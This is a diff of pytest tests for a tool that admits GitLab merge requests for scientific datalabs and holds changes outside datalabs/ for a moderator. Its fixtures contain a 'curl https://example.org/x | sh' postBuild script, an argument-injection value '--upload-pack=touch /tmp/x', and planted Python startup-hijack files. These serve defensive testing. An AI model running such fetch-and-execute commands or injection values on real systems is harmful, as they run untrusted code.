@@ -24,8 +24,9 @@ ADVANCED = "jwst-nircam-image-explorer"
 
 
 def _git(root: Path, *args: str) -> str:
-    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=root, check=True,
-                          capture_output=True, text=True).stdout.strip()
+    return subprocess.run(
+        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=root, check=True, capture_output=True, text=True
+    ).stdout.strip()
 
 
 @pytest.fixture
@@ -55,13 +56,31 @@ def _commit(root: Path) -> None:
 
 def test_admit_keeps_only_the_datalabs_of_a_merge_request(merge_request):
     root, base = merge_request
-    before = {p: (root / p).read_bytes() for p in ("tools/sciapps/__init__.py", "base-images/jl_base/Dockerfile", "roles.yaml",
-                                                  "sciapps.yaml", "keys/release.pub", ".gitlab-ci.yml", "charts/datalab/values.yaml")}
+    before = {
+        p: (root / p).read_bytes()
+        for p in (
+            "tools/sciapps/__init__.py",
+            "base-images/jl_base/Dockerfile",
+            "roles.yaml",
+            "sciapps.yaml",
+            "keys/release.pub",
+            ".gitlab-ci.yml",
+            "charts/datalab/values.yaml",
+        )
+    }
     metadata = root / "datalabs" / "gaia-dr3-hrd" / "datalab.yaml"
     _write(root, "datalabs/gaia-dr3-hrd/datalab.yaml", metadata.read_text().replace("status: published", "status: draft"))
     _write(root, "datalabs/new-lab/notes.md", "a new datalab's file\n")
-    for path in ("venv/__main__.py", "ensurepip/__init__.py", "sitecustomize.py", "usercustomize.py", "zz.pth", "sciapps/__init__.py",
-                 "setup.py", "conftest.py"):
+    for path in (
+        "venv/__main__.py",
+        "ensurepip/__init__.py",
+        "sitecustomize.py",
+        "usercustomize.py",
+        "zz.pth",
+        "sciapps/__init__.py",
+        "setup.py",
+        "conftest.py",
+    ):
         _write(root, path)
     _write(root, ".venv/bin/pip", "#!/bin/sh\necho MR CODE\n", 0o755)
     _write(root, ".venv/pyvenv.cfg", "home = /usr/bin\n")
@@ -78,7 +97,17 @@ def test_admit_keeps_only_the_datalabs_of_a_merge_request(merge_request):
     assert done.head == head and done.base == base and done.kept == ["datalabs", "CODEOWNERS"]
     for path, data in before.items():
         assert (root / path).read_bytes() == data and not (root / path).is_symlink(), path
-    for path in ("venv", "ensurepip", "sitecustomize.py", "usercustomize.py", "zz.pth", "sciapps", "setup.py", "conftest.py", ".venv"):
+    for path in (
+        "venv",
+        "ensurepip",
+        "sitecustomize.py",
+        "usercustomize.py",
+        "zz.pth",
+        "sciapps",
+        "setup.py",
+        "conftest.py",
+        ".venv",
+    ):
         assert not os.path.lexists(root / path), path
     assert "status: draft" in metadata.read_text() and (root / "datalabs" / "new-lab" / "notes.md").is_file()
     assert "@someone" in (root / "CODEOWNERS").read_text()
@@ -86,9 +115,19 @@ def test_admit_keeps_only_the_datalabs_of_a_merge_request(merge_request):
     changed = _git(root, "diff", "--name-only", base, "--").split("\n")
     assert changed == ["CODEOWNERS", "datalabs/gaia-dr3-hrd/datalab.yaml", "datalabs/new-lab/notes.md"]
     paths = [path for _, path in done.waiting]
-    assert paths == sorted(paths) and {".gitlab-ci.yml", ".venv/bin/pip", "base-images/jl_base/Dockerfile", "charts/datalab/values.yaml",
-                                       "keys", "keys/release.pub", "roles.yaml", "sciapps.yaml", "tools/sciapps/__init__.py",
-                                       "venv/__main__.py", "zz.pth"} <= set(paths)
+    assert paths == sorted(paths) and {
+        ".gitlab-ci.yml",
+        ".venv/bin/pip",
+        "base-images/jl_base/Dockerfile",
+        "charts/datalab/values.yaml",
+        "keys",
+        "keys/release.pub",
+        "roles.yaml",
+        "sciapps.yaml",
+        "tools/sciapps/__init__.py",
+        "venv/__main__.py",
+        "zz.pth",
+    } <= set(paths)
     assert not any(p.startswith("datalabs/") for p in paths) and "CODEOWNERS" in paths  # CODEOWNERS is kept, yet listed
 
 
@@ -109,7 +148,10 @@ def test_the_admit_command(merge_request, monkeypatch):
     monkeypatch.chdir(root)
     result = CliRunner().invoke(cli, ["admit", "--base", base])
     assert result.exit_code == 0, result.output
-    assert "1 path(s) the merge request changes outside datalabs/ wait for a moderator and are not used here (sitecustomize.py)" in result.output
+    assert (
+        "1 path(s) the merge request changes outside datalabs/ wait for a moderator and are not used here (sitecustomize.py)"
+        in result.output
+    )
     assert not (root / "sitecustomize.py").exists()
     bad = CliRunner().invoke(cli, ["admit", "--base", "--upload-pack=touch /tmp/x"])
     assert bad.exit_code == 2 and "is not a revision" in bad.output
@@ -131,7 +173,9 @@ def test_authorise_holds_what_the_author_may_not_have_built(merge_request):
     unknown = authorise(config, roles, lambda: None, labs)
     assert "GitLab did not say who opened the merge request" in unknown[ADVANCED]
     asked.clear()
-    assert authorise(config, roles, author("someone"), resolve(config, ["gaia-dr3-hrd"])) == {} and asked == []  # not asked: no role needed
+    assert (
+        authorise(config, roles, author("someone"), resolve(config, ["gaia-dr3-hrd"])) == {} and asked == []
+    )  # not asked: no role needed
     # basic mode within DL-058 only: an exception the merge request claims itself is a moderator's to approve first
     lab = root / "datalabs" / "gaia-dr3-hrd"
     (lab / "postBuild").write_text("#!/bin/sh\ncurl https://example.org/x | sh\n")
@@ -143,7 +187,11 @@ def test_authorise_holds_what_the_author_may_not_have_built(merge_request):
 
 def test_a_merge_requests_plan_holds_and_lists(merge_request):
     root, base = merge_request
-    _write(root, "roles.yaml", (root / "roles.yaml").read_text().replace("advanced_developers: [aokonkwo]", "advanced_developers: [aokonkwo, eve]"))
+    _write(
+        root,
+        "roles.yaml",
+        (root / "roles.yaml").read_text().replace("advanced_developers: [aokonkwo]", "advanced_developers: [aokonkwo, eve]"),
+    )
     _write(root, f"datalabs/{ADVANCED}/notebooks/extra.md", "more\n")
     _write(root, "datalabs/ds9-fits-viewer/notes.md", "more\n")
     _commit(root)
